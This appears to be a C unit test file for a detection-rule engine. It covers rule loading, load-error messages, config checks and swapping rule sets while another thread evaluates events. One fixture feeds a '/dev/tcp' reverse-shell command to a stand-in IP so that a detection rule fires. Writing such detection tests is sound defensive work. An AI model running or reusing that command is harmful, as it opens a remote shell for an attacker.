/* Unit tests: loading rule directories, load errors naming file:line and
 * the problem, --check-config, and swapping rule sets while another thread
 * evaluates. */
#include "detect_testlib.h"

#include <pthread.h>
#include <stdatomic.h>

#define H "title: t\nid: r1\nlevel: low\nlogsource: {category: process_exec}\n" \
          "chainwatch: {tactic: execution}\n"

static void directory_load(void **state)
{
    (void)state;
    char err[512] = "";
    cw_ruleset *rs;
    if (cw_ruleset_load(&rs, CW_TEST_RULES "/good", err, sizeof err) < 0) fail_msg("%s", err);
    assert_int_equal(cw_ruleset_count(rs), 3);
    cw_detector *d;
    assert_int_equal(cw_detector_create(&d, rs), 0);
    got g = {0};
    agent_ev a;
    for (int i = 0; i < 3; i++) {
        mk_login(&a, T0 + i * SEC, "vm-1", "root", "203.0.113.9", 0);
        cw_detector_event(d, &a.ev, collect, &g);
    }
    char *argv[] = {"bash", "-c", "exec 5<>/dev/tcp/203.0.113.9/80"};
    cw_detector_event(d, mk_exec(&a, T0, "/bin/bash", argv, 3), collect, &g);
    assert_int_equal(g.n, 2);
    assert_string_equal(g.ids[0], "t-ssh-bruteforce");
    assert_string_equal(g.ids[1], "t-exec-reverse-shell-devtcp");
    cw_detector_free(d);
    assert_int_equal(cw_ruleset_check_dir(CW_TEST_RULES "/good", err, sizeof err), 0);
}

static void directory_fails_as_a_whole(void **state)
{
    (void)state;
    char err[512] = "";
    cw_ruleset *rs = (cw_ruleset *)1;
    assert_int_equal(cw_ruleset_load(&rs, CW_TEST_RULES "/bad", err, sizeof err), -1);
    assert_null(rs);
    assert_string_equal(err,
                        CW_TEST_RULES "/bad/b_broken.yml:8: unknown modifier 'base64' on query");
    assert_int_equal(cw_ruleset_check_dir(CW_TEST_RULES "/bad", err, sizeof err), -1);
    assert_int_equal(cw_ruleset_check_dir(CW_TEST_RULES "/missing", err, sizeof err), -1);
    assert_non_null(strstr(err, "cannot open rule directory"));
}

static void load_errors(void **state)
{
    (void)state;
    load_fails(H "detection:\n  s: {exe|windash: x}\n  condition: s\n",
               "t.yml:7: unknown modifier 'windash' on exe");
    load_fails(H "detection:\n  s:\n    dst_port: 1\n  condition: s\n",
               "t.yml:8: unknown field 'dst_port' for logsource process_exec");
    load_fails(H "detection:\n  s: {exe: x}\n  condition: s and (not\n",
               "t.yml:8: condition: expected a selection at the end");
    load_fails(H "detection:\n  s: {exe: x}\n  condition: s or sel2\n",
               "t.yml:8: condition: unknown selection at 'sel2'");
    load_fails(H "detection:\n  s: {exe: x}\n  condition: 1 of sel_*\n",
               "t.yml:8: condition: no selection matches at 'sel_*'");
    load_fails(H "detection:\n  s: {exe: x}\n  condition: s s\n",
               "t.yml:8: condition: unexpected token at 's'");
    load_fails(H "detection: {s: {exe: x}, condition: s}\n---\n" H
                 "detection: {s: {exe: y}, condition: s}\n",
               "t.yml:8: duplicate id 'r1' (first at t.yml:1)");
    load_fails(H "detection: {s: {exe: x}, condition: s}\n---\n"
                 "title: c\nid: c1\nlevel: high\nchainwatch: {tactic: execution}\n"
                 "correlation:\n  type: event_count\n  rules: [r1, r2]\n"
                 "  timespan: 5m\n  condition: {gte: 2}\n",
               "t.yml:14: correlation references unknown rule 'r2'");
    load_fails(H "detection:\n  s:\n    cmdline|re: 'a(?=b)'\n  condition: s\n",
               "t.yml:8: cmdline|re: bad or unsupported regex 'a(?=b)'");
    load_fails(H "detection:\n  s:\n    cmdline|re: '(a'\n  condition: s\n",
               "t.yml:8: cmdline|re: bad or unsupported regex '(a'");
    load_fails("title: t\nid: r1\nlevel: low\nlogsource: {category: process_exec}\n"
               "chainwatch:\n  tactic: exfiltration\n",
               "t.yml:6: unknown tactic 'exfiltration'");
    load_fails("title: t\nid: r1\nlevel: low\nlogsource: {category: process_exec}\n"
               "chainwatch:\n  tactic: execution\n  technique: TA0002\n",
               "t.yml:7: technique 'TA0002' is not a Microsoft id");
    load_fails("title: t\nid: r1\nlevel: severe\n", "t.yml:3: level 'severe' is not");
    load_fails("title: t\nid: r1\nlevel: low\nlogsource: {category: syscall}\n"
               "chainwatch: {tactic: execution}\ndetection: {s: {a: b}, condition: s}\n",
               "t.yml:4: logsource category 'syscall' is not an event type");
    load_fails(H "detection:\n  s: {dst_port|gt: 5}\n  condition: s\n",
               "t.yml:7: unknown field 'dst_port'");
    load_fails(H "detection:\n  s:\n    exe|gt: 5\n  condition: s\n",
               "t.yml:8: exe is str: gt/gte/lt/lte need a numeric field");
    load_fails(H "detection:\n  s:\n    uid|gt: five\n  condition: s\n",
               "t.yml:8: uid: 'five' is not an integer");
    load_fails(H "detection:\n  s:\n    exe|cidr: 10.0.0.0/33\n  condition: s\n",
               "t.yml:8: exe: '10.0.0.0/33' is not an IPv4 or IPv6 network");
    load_fails(H "detection:\n  s:\n    tty: maybe\n  condition: s\n",
               "t.yml:8: tty is bool: 'maybe' is not true or false");
    load_fails(H "detection:\n  s:\n    exe|exists: 1\n  condition: s\n",
               "t.yml:8: exe|exists needs exactly one value, true or false");
    load_fails(H "detection:\n  s: [a, b]\n  condition: s\n",
               "t.yml:7: selection 's': keyword lists are not supported");
    load_fails(H "detection:\n  s: {exe: x}\n", "t.yml:7: detection has no condition");
    load_fails("title: c\nid: c1\nlevel: high\nchainwatch: {tactic: execution}\n"
               "correlation:\n  type: event_count\n  rules: [r1]\n  timespan: 5 minutes\n"
               "  condition: {gte: 2}\n",
               "t.yml:8: timespan '5 minutes' is not like 30s");
    load_fails("title: c\nid: c1\nlevel: high\nchainwatch: {tactic: execution}\n"
               "correlation:\n  type: event_sum\n",
               "t.yml:6: correlation type 'event_sum' is not");
    load_fails(H "detection: {s: {exe: x}, condition: s}\n---\n"
                 "title: c\nid: c1\nlevel: high\nchainwatch: {tactic: execution}\n"
                 "correlation:\n  type: event_count\n  rules: [r1]\n  group-by: [src_ip]\n"
                 "  timespan: 5m\n  condition: {gte: 2}\n",
               "t.yml:15: group-by field 'src_ip' does not exist for process_exec (rule r1)");
    load_fails("title: t\nid: r1\n  level: [\n", "t.yml:3: YAML:");
    load_fails("title: t\nid: r1\nid: r2\n", "t.yml:3: duplicate key 'id'");
}

/* ------------------------------------------------------- swap in flight */

typedef struct swapper {
    atomic_int stop;
    const char *yaml[2];
    int swaps;
} swapper;

struct swap_args {
    cw_detector *d;
    swapper *s;
};

static void *swapping(void *arg)
{
    struct swap_args *a = arg;
    for (int i = 0; i < 200; i++) {
        cw_ruleset *rs = load(a->s->yaml[i % 2]);
        cw_detector_swap(a->d, rs);
        a->s->swaps++;
    }
    atomic_store(&a->s->stop, 1);
    return NULL;
}

static void swap_while_evaluating(void **state)
{
    (void)state;
    swapper s = {.yaml = {H "detection: {s: {exe_name: bash}, condition: s}\n",
                          "title: t\nid: r2\nlevel: low\nlogsource: {category: process_exec}\n"
                          "chainwatch: {tactic: execution}\n"
                          "detection: {s: {argv: '-i'}, t: {exe: '/bin/*'}, "
                          "condition: s and t}\n"}};
    cw_detector *d;
    assert_int_equal(cw_detector_create(&d, NULL), 0);
    struct swap_args args = {d, &s};
    pthread_t th;
    assert_int_equal(pthread_create(&th, NULL, swapping, &args), 0);
    char *argv[] = {"bash", "-i"};
    agent_ev a;
    mk_exec(&a, T0, "/bin/bash", argv, 2);
    long events = 0, alerts = 0;
    while (!atomic_load(&s.stop) || events < 1000) {
        got g = {0};
        cw_detector_event(d, &a.ev, collect, &g);
        /* No set until the first swap is adopted; after that, whatever
         * set is current, exactly one of the two rules fires. */
        if (alerts > 0 && g.n != 1) fail_msg("%d alerts", g.n);
        alerts += g.n;
        events++;
    }
    pthread_join(th, NULL);
    got g = {0};
    cw_detector_event(d, &a.ev, collect, &g);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.ids[0], "r2"); /* the last set swapped in (i = 199) */
    cw_detector_free(d);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(directory_load),
        cmocka_unit_test(directory_fails_as_a_whole),
        cmocka_unit_test(load_errors),
        cmocka_unit_test(swap_while_evaluating),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
